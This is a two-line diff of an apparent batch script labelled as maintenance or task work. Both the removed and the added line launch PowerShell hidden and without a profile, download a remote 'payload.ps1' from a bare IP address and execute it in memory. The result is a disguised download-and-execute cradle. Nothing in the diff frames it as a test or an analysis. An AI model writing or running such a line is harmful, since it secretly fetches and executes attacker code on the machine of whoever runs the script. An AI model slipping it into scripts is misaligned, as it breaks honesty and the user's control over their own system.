@@ -1,2 +1,2 @@
-REM maintenance 1909 v0
-powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/payload.ps1')"
+REM task 7079 v0
+powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/payload.ps1')"
